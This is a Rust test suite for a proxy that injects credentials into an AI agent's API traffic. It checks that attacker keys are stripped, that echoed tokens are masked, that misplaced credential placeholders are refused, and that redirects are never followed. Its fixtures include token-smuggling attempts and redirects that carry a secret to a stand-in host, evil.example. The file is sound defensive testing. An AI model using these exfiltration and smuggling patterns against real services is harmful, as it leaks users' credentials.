//! Rows a and c2: reading a credential, or using another session's.

use std::io::Write;

use base64::{Engine, engine::general_purpose::STANDARD};
use clauderon_audit::Kind;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::{
    client::{ANTHROPIC, MESSAGES, answer, get, post, say},
    upstream::{header, ok, raw},
    world::{PLACEHOLDER, TOKEN, World, store},
};

#[tokio::test]
async fn the_agents_own_credentials_are_replaced() {
    let world = World::new(|_| ok("{}")).await;
    let headers = format!(
        "Authorization: Bearer {PLACEHOLDER}\r\nX-Api-Key: sk-attacker\r\nProxy-Authorization: Basic eA==\r\nCookie: session=attacker\r\nX-Goog-Api-Key: attacker\r\nConnection: x-private, keep-alive\r\nX-Private: 1\r\nanthropic-beta: oauth-2025-04-20\r\n"
    );
    let got = world
        .ask(
            ANTHROPIC,
            &post(ANTHROPIC, "/v1/messages?beta=true", &headers, MESSAGES),
        )
        .await;
    assert_eq!(got.status, 200, "{got:?}");
    let seen = world.upstream.seen();
    assert_eq!(seen.len(), 1);
    let head = &seen[0].head;
    assert!(
        head.starts_with("POST /v1/messages?beta=true HTTP/1.1\r\n"),
        "{head}"
    );
    assert_eq!(
        header(head, "authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
    assert_eq!(header(head, "host"), Some(ANTHROPIC));
    assert_eq!(header(head, "anthropic-beta"), Some("oauth-2025-04-20"));
    assert_eq!(header(head, "accept-encoding"), Some("identity"));
    for gone in [
        "attacker",
        "placeholder",
        "x-private",
        "proxy-authorization",
        "cookie",
    ] {
        assert!(!head.to_lowercase().contains(gone), "{gone} in {head}");
    }
    assert_eq!(seen[0].body, MESSAGES.as_bytes());
    let decision = world.records_of(Kind::Decision).pop().unwrap();
    let close = world.closed().await;
    assert_eq!(
        decision.auth_injected.as_deref(),
        Some("anthropic_oauth_token")
    );
    assert_eq!((close.link, close.status), (decision.link, Some(200)));
    assert_eq!(
        (close.bytes_up, close.bytes_down),
        (Some(MESSAGES.len() as u64), Some(2))
    );
}

#[tokio::test]
async fn an_attackers_key_in_the_query_is_taken_out() {
    let world = World::new(|_| ok("{}")).await;
    for query in [
        "key=attacker",
        "access_token=attacker&a=1",
        "API_KEY=attacker",
        "%6bey=attacker",
    ] {
        let got = world
            .ask(
                "sink.example",
                &get("sink.example", &format!("/v1?{query}"), ""),
            )
            .await;
        assert_eq!(got.status, 200);
    }
    let seen = world.upstream.seen();
    assert!(
        !seen.iter().any(|seen| seen.head.contains("attacker")),
        "{seen:?}"
    );
    // On a route of the model the query is a rule's affair: a key that no rule names is refused and recorded.
    let got = world
        .ask(
            ANTHROPIC,
            &post(ANTHROPIC, "/v1/messages?key=attacker", "", MESSAGES),
        )
        .await;
    assert_eq!(got.status, 403);
    world.refused("not_allowed").await;
}

#[tokio::test]
async fn an_echo_never_shows_the_secret() {
    let basic = STANDARD.encode(format!("x-access-token:{TOKEN}"));
    let world = World::new(|seen| {
        let echoed = header(&seen.head, "authorization").unwrap();
        let headers = format!("x-echo: {echoed}\r\nlocation: https://evil.example/?{TOKEN}\r\n");
        raw(
            "200 OK",
            &headers,
            format!("{}\n{TOKEN}\n{}", seen.head, STANDARD.encode(TOKEN)).as_bytes(),
        )
    })
    .await;
    let got = world
        .ask(
            "echo.example",
            &get(
                "echo.example",
                "/echo",
                "Accept-Encoding: gzip\r\nRange: bytes=0-9\r\n",
            ),
        )
        .await;
    assert_eq!(got.status, 200);
    for text in [got.head.as_str(), got.text().as_str()] {
        for shown in [TOKEN, &basic, &STANDARD.encode(TOKEN), &TOKEN[5..]] {
            assert!(!text.contains(shown), "{text}");
        }
        assert!(text.contains("********"), "{text}");
    }
    let head = world.upstream.seen()[0].head.clone();
    assert!(head.contains(&basic) && header(&head, "range").is_none());
}

#[tokio::test]
async fn an_encoded_echo_is_refused() {
    let world = World::new(|seen| {
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gzip.write_all(seen.head.as_bytes()).unwrap();
        raw(
            "200 OK",
            "content-encoding: gzip\r\n",
            &gzip.finish().unwrap(),
        )
    })
    .await;
    let got = world
        .ask("echo.example", &get("echo.example", "/echo", ""))
        .await;
    assert_eq!(
        (got.status, got.json()["code"].as_str()),
        (502, Some("upstream_unreachable"))
    );
    world.refused("upstream_unreachable").await;
}

#[tokio::test]
async fn a_secret_split_over_chunks_is_masked() {
    let world = World::new(|_| {
        let (a, b) = TOKEN.split_at(11);
        let chunk = |text: &str| format!("{:x}\r\n{text}\r\n", text.len());
        let head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n";
        let body = [chunk("a "), chunk(a), chunk(b), chunk(" b")].concat();
        crate::upstream::Reply::Raw(format!("{head}{body}0\r\n\r\n").into_bytes())
    })
    .await;
    let got = world
        .ask("echo.example", &get("echo.example", "/", ""))
        .await;
    assert_eq!(got.text(), format!("a {} b", "*".repeat(TOKEN.len())));
}

#[tokio::test]
async fn a_redirect_is_passed_on_and_never_followed() {
    let world =
        World::new(|_| raw("302 Found", "location: https://evil.example/steal\r\n", b"")).await;
    let got = world
        .ask("echo.example", &get("echo.example", "/", ""))
        .await;
    assert_eq!(got.status, 302);
    assert_eq!(
        header(&got.head, "location"),
        Some("https://evil.example/steal")
    );
    assert_eq!(world.upstream.seen().len(), 1);
    assert!(world.asked_names().is_empty());
    assert_eq!(world.closed().await.status, Some(302));
}

#[tokio::test]
async fn a_misplaced_placeholder_is_refused_and_recorded() {
    let world = World::new(|_| ok("{}")).await;
    let pair = STANDARD.encode(format!("x-access-token:{PLACEHOLDER}"));
    let host = "sink.example";
    let url_encoded = PLACEHOLDER.replace('-', "%2D");
    let attempts = [
        get(host, &format!("/a/{PLACEHOLDER}"), ""),
        get(host, &format!("/a?b={url_encoded}"), ""),
        get(host, "/a", &format!("Cookie: a={PLACEHOLDER}\r\n")),
        get(host, "/a", &format!("Authorization: Basic {pair}\r\n")),
        get(
            host,
            "/a",
            &format!("X-Other: {}\r\n", STANDARD.encode(PLACEHOLDER)),
        ),
        post(host, "/a", "", &format!("a={PLACEHOLDER}")),
        post(
            host,
            "/a",
            "",
            &format!("a={}", STANDARD.encode(format!("xy{PLACEHOLDER}"))),
        ),
        post("echo.example", "/a", "", &format!("a={PLACEHOLDER}")),
    ];
    for (number, request) in attempts.iter().enumerate() {
        let host = if request.contains("echo.example") {
            "echo.example"
        } else {
            host
        };
        let got = world.ask(host, request).await;
        assert_eq!(
            (got.status, got.json()["code"].as_str()),
            (403, Some("placeholder_misplaced")),
            "{request}"
        );
        assert_eq!(world.records_of(Kind::Refusal).len(), number + 1);
    }
    let seen = world.upstream.seen();
    assert!(
        !seen
            .iter()
            .any(|seen| format!("{seen:?}").contains("placeholder")),
        "{seen:?}"
    );
}

#[tokio::test]
async fn an_agent_may_tell_its_model_of_the_placeholder_and_it_stays_one() {
    let world = World::new(|_| ok("{}")).await;
    let body = MESSAGES.replace("hi", PLACEHOLDER);
    let got = world
        .ask(ANTHROPIC, &post(ANTHROPIC, "/v1/messages", "", &body))
        .await;
    assert_eq!(got.status, 200);
    let seen = world.upstream.seen();
    let body = String::from_utf8_lossy(&seen[0].body);
    assert!(body.contains(PLACEHOLDER), "{body}");
}

#[tokio::test]
async fn a_placeholder_split_over_writes_and_chunks_is_found() {
    let world = World::new(|_| ok("{}")).await;
    let mut tunnel = world.tunnel("sink.example").await;
    tunnel
        .write_all(b"PUT /a HTTP/1.1\r\nHost: sink.example\r\nTransfer-Encoding: chunked\r\n\r\n")
        .await
        .unwrap();
    for byte in PLACEHOLDER.as_bytes() {
        tunnel
            .write_all(format!("1\r\n{}\r\n", char::from(*byte)).as_bytes())
            .await
            .unwrap();
        tunnel.flush().await.unwrap();
    }
    let got = answer(&mut tunnel).await.unwrap();
    assert_eq!(got.json()["code"].as_str(), Some("placeholder_misplaced"));
    assert_eq!(world.refused("placeholder_misplaced").await.path, "/a");
    assert!(
        !world
            .upstream
            .seen()
            .iter()
            .any(|seen| seen.head.starts_with("PUT") && !seen.body.is_empty())
    );
}

#[tokio::test]
async fn no_credential_goes_out_in_clear_or_to_another_port() {
    let world = World::new(|_| ok("{}")).await;
    let got = say(
        &mut world.open(),
        "GET http://api.anthropic.com/v1/models HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(got.status, 403);
    let got = say(
        &mut world.open(),
        "CONNECT api.anthropic.com:8443 HTTP/1.1\r\n\r\n",
    )
    .await
    .unwrap();
    assert_eq!(got.status, 403);
    assert_eq!(world.records_of(Kind::Refusal).len(), 2);
    assert!(world.upstream.seen().is_empty());
}

#[tokio::test]
async fn a_missing_credential_names_its_fix() {
    let world = World::new(|_| ok("{}")).await;
    std::fs::remove_file(world.dir.path().join("secrets/anthropic_oauth_token")).unwrap();
    let got = world
        .ask(ANTHROPIC, &post(ANTHROPIC, "/v1/messages", "", MESSAGES))
        .await;
    let refusal = got.json();
    assert_eq!(
        (got.status, refusal["code"].as_str()),
        (403, Some("credential_missing"))
    );
    assert!(
        refusal["hint"]
            .as_str()
            .unwrap()
            .contains("CLAUDE_CODE_OAUTH_TOKEN"),
        "{refusal}"
    );
    world.refused("credential_missing").await;
    assert!(world.upstream.seen().is_empty());
}

#[tokio::test]
async fn connections_are_kept_for_one_session_and_one_credential() {
    let world = World::new(|_| ok("{}")).await;
    let request = get("echo.example", "/", "");
    let mut first = world.tunnel("echo.example").await;
    for _ in 0..3 {
        assert_eq!(say(&mut first, &request).await.unwrap().status, 200);
    }
    // A claim to be somebody else changes nothing.
    let neighbour = world.neighbour();
    let claim = get("echo.example", "/", "X-Session: session-a\r\n");
    assert_eq!(
        say(
            &mut world.tunnel_for(&neighbour, "echo.example").await,
            claim
        )
        .await
        .unwrap()
        .status,
        200
    );
    store(
        &world.dir.path().join("secrets"),
        "github_token",
        "another-value-of-the-token",
    );
    assert_eq!(say(&mut first, &request).await.unwrap().status, 200);
    let connections: Vec<usize> = world
        .upstream
        .seen()
        .iter()
        .map(|seen| seen.connection)
        .collect();
    assert_eq!(connections, [0, 0, 0, 1, 2]);
    let sessions: Vec<String> = world
        .records_of(Kind::Decision)
        .into_iter()
        .map(|record| record.session)
        .collect();
    assert_eq!(sessions[3], "session-b");
}

#[tokio::test]
async fn the_log_shows_no_control_characters_and_no_query() {
    let world = World::new(|_| ok("{}")).await;
    let target = "CONNECT a\u{1b}[31m.example:443 HTTP/1.1\r\n\r\n";
    assert_eq!(say(&mut world.open(), target).await.unwrap().status, 400);
    let got = world
        .ask("sink.example", &get("sink.example", "/a?secret=query", ""))
        .await;
    assert_eq!(got.status, 200);
    world.closed().await;
    let mut text = String::new();
    tokio::fs::File::open(world.dir.path().join("audit.jsonl"))
        .await
        .unwrap()
        .read_to_string(&mut text)
        .await
        .unwrap();
    assert!(
        !text.contains('\u{1b}') && !text.contains("query"),
        "{text}"
    );
    assert!(!text.contains(TOKEN));
}
